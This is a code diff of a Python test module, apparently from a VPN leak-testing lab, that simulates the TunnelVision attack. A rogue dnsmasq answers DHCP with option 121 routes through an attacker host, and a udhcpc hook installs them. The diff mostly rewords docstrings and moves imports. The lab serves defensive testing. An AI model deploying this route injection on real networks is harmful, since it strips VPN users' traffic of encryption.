@@ -1,18 +1,20 @@
-"""A11: the network's own DHCP server gives routes that lead around the tunnel (TunnelVision)."""
+# SPDX-FileCopyrightText: 2026 The Psiphon Linux VPN Service authors
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""A11: the network's own DHCP server hands out routes that lead around the tunnel (TunnelVision)."""
 
 from __future__ import annotations
 
 import ipaddress
 
 from psiphon_lab.addresses import LAN_A, NEIGHBOUR4
-from psiphon_lab.attacks._send import volley
 from psiphon_lab.leaktest.arena import Arena
 from psiphon_lab.leaktest.attack import Attack
-from psiphon_lab.leaktest.terms import Actor, Mode
+from psiphon_lab.leaktest.model import Actor, Mode
 from psiphon_lab.namespace import LabError
+from psiphon_lab.sending import volley
 
 HALVES = ("0.0.0.0/1", "128.0.0.0/1")
-# What distributions' own scripts do with the option: an address if there is none, and every route, by the wire.
+# What distributions' own scripts do with the option: add every route, over the wire.
 APPLY = """#!/bin/sh
 [ "$1" = bound ] || [ "$1" = renew ] || exit 0
 set -- $staticroutes
@@ -25,10 +27,10 @@ for half in 0.0.0.0/1 128.0.0.0/1; do ip route replace $half via {attacker} dev 
 
 
 def serve_routes(arena: Arena) -> None:
-    """A real dnsmasq on the provider's LAN, with option 121 to the attacker: the neighbour."""
+    """Run a real dnsmasq on the provider's LAN; its option 121 leads to the attacker, the neighbour."""
     routes = ",".join(f"{half},{NEIGHBOUR4}" for half in HALVES)
     network = ipaddress.ip_network(LAN_A.network4)
-    lease = str(arena.scratch("leases"))
+    lease = str(arena.scratch("leases", shared=True))
     arena.spawn(
         [
             "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--interface=lan",
@@ -42,22 +44,22 @@ def serve_routes(arena: Arena) -> None:
 
 
 def forget_routes(arena: Arena) -> None:
-    """What the attack leaves in the main table goes with it."""
+    """Remove the attack's routes from the main table at the end."""
     for half in HALVES:
         arena.undo("ip", "route", "del", half, "metric", "5")
 
 
 def require_routes(arena: Arena) -> None:
-    """The attack counts only if the routes came. While the cable is pulled again and again they may not."""
+    """The attack counts only if the routes arrived, except in the state that unplugs the cable again and again."""
     routes = arena.client.run(["ip", "route"]).stdout
-    there = all(half in routes for half in HALVES)
-    arena.say("0.0.0.0/1 and 128.0.0.0/1 came by DHCP" if there else "the routes did not come")
-    if not there and arena.mode is not Mode.TRANSITION:
-        raise LabError("the routes did not come by DHCP")
+    has_arrived = all(half in routes for half in HALVES)
+    arena.say("0.0.0.0/1 and 128.0.0.0/1 came over DHCP" if has_arrived else "the routes did not come")
+    if not has_arrived and arena.mode is not Mode.TRANSITION:
+        raise LabError("the routes did not arrive over DHCP")
 
 
 def run(arena: Arena) -> None:
-    """Udhcpc asks, dnsmasq answers with 0.0.0.0/1 and 128.0.0.0/1 by the neighbour; programs try to get out."""
+    """Let udhcpc request an address; dnsmasq answers with 0.0.0.0/1 and 128.0.0.0/1 via the neighbour; then send."""
     serve_routes(arena)
     forget_routes(arena)
     script = arena.scratch("udhcpc.sh", APPLY, mode=0o755)
@@ -85,10 +87,10 @@ def run(arena: Arena) -> None:
 
 ATTACK = Attack(
     id="A11",
-    name="routes by DHCP (udhcpc)",
+    name="routes from DHCP (udhcpc)",
     reference="TunnelVision, CVE-2024-3661 (RFC 3442)",
-    plain="The local network answers the computer's request for an address with routes that are more exact than the "
-    "VPN's, so that traffic would leave by the network card, unencrypted.",
+    summary="The local network answers the computer's request for an address with routes that are more specific than "
+    "the VPN's, so that traffic would leave by the network card, unencrypted.",
     actors=(Actor.PROVIDER, Actor.NEIGHBOUR),
     recognised="by source port or a token in the payload",
     control="the same packets with the same routes, without the lock",
